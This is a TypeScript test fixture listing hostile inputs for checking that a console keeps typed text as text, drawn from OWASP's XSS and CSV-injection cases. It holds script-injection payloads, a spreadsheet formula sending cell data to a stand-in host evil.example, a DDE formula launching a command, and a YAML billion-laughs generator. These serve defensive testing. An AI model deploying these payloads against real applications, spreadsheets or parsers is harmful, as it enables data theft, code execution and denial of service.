/** What somebody may type or paste where the console takes words, to see whether it stays words (OWASP, XSS and CSV injection). */
const ran = 'globalThis.ran=1;alert(1)'

export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>${ran}</script>`,
  'closed script': `</script><script>${ran}</script>`,
  'broken picture': `<img src=x onerror="${ran}">`,
  'closed attribute': `" autofocus onfocus="${ran}" x="`,
  'closed tag': `'><svg/onload=${ran}>`,
  frame: `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  'link of script': `<a href="javascript:${ran}">javascript:${ran}</a>`,
  'link in markup': `[ici](javascript:${ran}) [[doc:javascript:${ran}]]`,
  'split link': `java\tscript:${ran}`,
  style: `</style><style>*{display:none!important}</style>`,
  'style in an attribute': `" style="position:fixed;inset:0;background:url(javascript:${ran})`,
  template: `{{constructor.constructor('${ran}')()}} \${${ran}} <%= ${ran} %> #{${ran}}`,
  prototype: '__proto__[ran]=1 constructor.prototype.ran',
  entities: `&lt;script&gt;${ran}&lt;/script&gt; &#x6A;avascript:${ran}`,
  'other brackets': `\uFF1Cscript\uFF1E${ran}\uFF1C/script\uFF1E`,
  'right to left': 'abc\u202E;)1(trela\u2066 fin\u202C',
  'no width': 'pa\u200Bie\u200Dment\uFEFF',
  'over and over': `Z${'\u0351\u036B\u0343'.repeat(40)}algo`,
  'long word': 'Llanfair'.repeat(40),
  formula: '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  'a line and a formula': 'rien\r\n=1+1',
  yaml: '*ancre: &autre !!js/function >- # - [',
}

/** Each name stands for ten of the one before: read whole, a thousand million words. */
export const yamlBomb = Array.from(
  { length: 10 },
  (_, at) =>
    `a${at}: &a${at} [${Array.from({ length: 10 }, () => (at === 0 ? 'ha' : `*a${at - 1}`)).join(', ')}]`,
).join('\n')
